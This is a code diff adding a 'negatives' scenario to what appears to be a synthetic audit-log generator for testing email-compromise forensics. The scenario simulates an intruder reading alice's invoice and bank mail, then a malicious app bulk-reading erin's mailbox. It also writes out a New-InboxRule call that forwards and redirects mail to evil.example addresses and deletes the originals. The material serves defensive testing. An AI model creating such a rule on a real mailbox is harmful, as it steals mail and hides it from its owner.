@@ -210,6 +210,41 @@ def plan_misconfigured(s: Script, u: dict[str, str], D: int, p: dict[str, Any]) 
                 s.pick(alice, "\\Archive", 12))
 
 
+def plan_negatives(s: Script, u: dict[str, str], D: int, p: dict[str, Any]) -> None:  # noqa: N803 - D is day zero, read as D + 3 * DAY
+    """What the honest-negatives tests need: a forwarding rule from the day-one address, and
+    a mailbox (erin) the malicious app, from an address the case file does not name, reads
+    until it is throttled and then keeps reading: no attributable record falls in the 24 h
+    window, so nothing can be inferred from it and it is an unknown period."""
+    alice, erin = u["alice"], u["erin"]
+    s.attack.day_one_account, s.attack.day_one_ip = alice, IP1
+    owa1 = s.context("owa1", alice, IP1, "owa")
+    s.signin(D + 9 * HOUR, owa1)
+    s.reads(D + 9 * HOUR + 60, D + 9 * HOUR + 900, alice, owa1, "\\Inbox",
+            s.pick(alice, "\\Inbox", 10, ("invoice", "bank")))
+    s.admin(D + 9 * HOUR + 1000, owa1, "New-InboxRule", f"{alice.split('@')[0]}\\fw",
+            [("Mailbox", alice), ("Name", "fw"), ("ForwardTo", "drop@evil.example"),
+             ("RedirectTo", "copy@evil.example"), ("DeleteMessage", "True")], mailbox=alice)
+    # day one: a few delegate reads of erin put her mailbox in scope
+    deleg = s.context("owa1", alice, IP1, "owa", logon=C.LOGON_DELEGATE, session=owa1.session_id,
+                      aad=owa1.aad_session_id)
+    s.reads(D + 10 * HOUR, D + 10 * HOUR + 600, erin, deleg, "\\Inbox", s.pick(erin, "\\Inbox", 5))
+    # the app from an address the case file does not name throttles erin and reads on: no
+    # attributable record falls in her throttled window
+    app = s.context("app2", alice, IP2, "app", app_id=APP_ID, reach=f"suggested:ip:{IP2}")
+    s.signin(D + 13 * HOUR + 3300, app, resource=C.GRAPH_APP)
+    workers = [s.context(f"app2-w{i}", alice, IP2, "app", app_id=APP_ID, logon=C.LOGON_DELEGATE,
+                         aad=app.aad_session_id, reach=f"suggested:ip:{IP2}")
+               for i in range(int(p["workers"]))]
+    pool = ([("\\Inbox", k) for k in s.pick(erin, "\\Inbox", 100000)] +
+            [("\\Archive", k) for k in s.pick(erin, "\\Archive", 100000)])
+    per_worker = int(p["read_hours"]) * 72      # one bind every 50 s
+    for w, ctx in enumerate(workers):
+        start = D + 14 * HOUR + 17 * w
+        for i in range(per_worker):
+            folder, k = pool[(w * per_worker + i) % len(pool)]
+            s.bind(start + i * 50 + s.rng.randrange(20), erin, ctx, folder, k)
+
+
 _BASE = dict(start=_epoch(2023, 6, 1), end=_epoch(2023, 6, 15), incident_start=_epoch(2023, 6, 8))
 
 SCENARIOS: dict[str, ScenarioSpec] = {
@@ -229,4 +264,8 @@ SCENARIOS: dict[str, ScenarioSpec] = {
         "large", "mostly owner baseline at benchmark volume (params: records=1M..10M)",
         start=_epoch(2023, 5, 16), end=_epoch(2023, 6, 15), incident_start=_epoch(2023, 6, 8),
         params={"records": 1_000_000}, plan=plan_bec),
+    "negatives": ScenarioSpec(
+        "negatives", "a forwarding rule, and a throttled mailbox with no recorded attacker act "
+        "in its window", **_BASE, params={"extra_mailboxes": 6, "workers": 3, "read_hours": 20},
+        plan=plan_negatives),
 }
